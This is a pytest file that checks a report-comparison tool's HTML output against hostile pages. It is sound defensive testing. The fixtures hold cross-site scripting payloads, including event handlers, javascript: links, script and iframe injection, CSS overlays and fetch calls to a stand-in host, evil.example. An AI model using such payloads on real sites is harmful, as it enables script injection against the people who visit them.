"""Hostile reports in a browser: no request, nothing runs, nothing is restyled, the text is there as text."""

from __future__ import annotations

import pytest
from lxml import html

from invented import comparison, hostile
from tab import Open
from twosource.compare import compare, read
from twosource.records import Comparison, Page
from twosource.report import page

_RAN = "window.ran = true; document.title = 'ran'; fetch('https://evil.example/ran')"
_LONG = "Gate failed " * 833 + "over"
_BODY = f"""
<p onclick="{_RAN}" onmouseover="{_RAN}">The mayor of Port Vell, Ada Brun, said on Tuesday that &lt;script&gt;window.ran = true&lt;/script&gt; the harbour gate had failed twice.</p>
<p>"The gate failed &amp;amp; nobody came <b onload="{_RAN}">to look at it</b>," Brun told reporters in Port Vell. <a href="javascript:{_RAN}">More</a>
<p style="position:fixed;inset:0;background:red">Harbour master Tove Lind said \u202eyaw rehto eht\u202c the quay would stay shut <img src="https://evil.example/x.png" onerror="{_RAN}"> until Friday.</p>
<p>Lind said &quot; onfocus=&quot;window.ran=true&quot; autofocus x=&quot; and &#x3C;svg onload=window.ran=true&#x3E; stood on the gate.</p>
<style>* {{ display: none !important; background: url(https://evil.example/css) }}</style>
<script>{_RAN}</script><script src="https://evil.example/x.js"></script>
<iframe srcdoc="<script>parent.ran = true</script>"></iframe><link rel="stylesheet" href="https://evil.example/x.css">
<p>Orland denied that it had closed the gate. <b><i><div><table><td>It did not say who had <textarea><!-- <plaintext>
"""


def _page(path: str, title: str, extra: str = "") -> Page:
    content = f"<html lang='en\" onload=\"window.ran=true'><head><title>{title}</title></head><body><h1>{title}</h1>{extra}{_BODY}"
    return Page(
        path=path, media="html", content=content, encoding="utf-8", given_url=f"javascript:{_RAN}",
        given_outlet="<img src=x onerror=window.ran=true>", given_language="en\" onload=\"window.ran=true",
    )  # fmt: skip


def from_hostile_pages() -> Comparison:
    """What the program itself makes of pages that want to run, restyle and break out."""
    pages = (
        _page("<script>.html", _LONG),
        _page("b.html", "Gate &lt;b&gt; failed twice, mayor says", "<p>One more line."),
    )
    return compare(tuple(read(one) for one in pages), same_event=True)


@pytest.fixture(scope="module")
def hostile_pages() -> str:
    return page(from_hostile_pages())


def test_pages_that_attack_are_shown_as_text_and_do_nothing(opened: Open, hostile_pages: str) -> None:
    held = opened(hostile_pages)
    for selector in ("#row-1 th > a", "#unfold", ".views a >> nth=1", ".views a >> nth=0"):
        held.tab.locator(selector).click()
    for link in held.tab.locator("article p").all()[:12]:
        if link.is_visible():
            link.hover()
    held.press("j", "c", "n", "Escape", "?", "Escape", "u", "x")
    assert held.tab.evaluate("window.ran === undefined")
    assert held.tab.title().startswith("2 reports compared: Gate failed")
    assert held.tab.get_by_text("<script>window.ran = true</script> the harbour gate").count() > 0
    shown = held.tab.locator("#texts").inner_text()
    assert "⟨U+202E⟩" in shown
    assert "yaw rehto eht⟨U+202C⟩" in shown
    assert held.tab.locator("img, iframe, object, embed, link, base, form, svg [onload]").count() == 0
    assert held.tab.locator("#ledger").is_visible()
    assert not held.wider_than_the_screen()


def test_no_address_of_a_page_can_be_followed(hostile_pages: str) -> None:
    links = html.fromstring(hostile_pages).xpath("//@href")
    assert links
    assert [link for link in links if not link.startswith("#")] == []
    assert html.fromstring(hostile_pages).xpath("//@*[starts-with(name(), 'on') or name() = 'style']") == []


def test_every_field_may_be_hostile(opened: Open) -> None:
    held = opened(hostile())
    held.press("j", "Enter", "c", "n")
    held.tab.keyboard.type("</script><img src=x onerror=window.ran=1>")
    held.press("Control+Enter", "j", "j", "Enter", "j", "Enter")
    held.tab.locator("#unfold").click()
    assert held.tab.title().startswith("2 reports compared")
    assert held.tab.evaluate("window.ran === undefined")
    held.tab.reload()
    assert held.tab.evaluate("window.ran === undefined")
    assert held.texts("#note-list li")[0].startswith("</script><img src=x onerror=window.ran=1>")


def test_a_hostile_address_is_no_way_in(opened: Open) -> None:
    for fragment in ("#%", "#%22%3E%3Cimg src=x onerror=window.ran=1%3E", "#row-1%5D", "#__proto__", "#" + "x" * 5000):
        held = opened(comparison(), fragment)
        held.press("j")
        assert held.focused() == "row-1"
        assert held.tab.evaluate("window.ran === undefined")


def test_a_foreign_script_or_style_is_refused_by_the_policy(opened: Open) -> None:
    foreign = "<script>document.title='ran'</script><style>body{display:none}</style><img src=x onerror=1>"
    held = opened(page(comparison()).replace("</body>", f"{foreign}</body>"))
    assert held.tab.title() != "ran"
    assert held.tab.locator("body").is_visible()
    assert len([line for line in held.said if "Content Security Policy" in line]) >= 3
    held.said.clear()
    held.asked = [held.file.as_uri()]
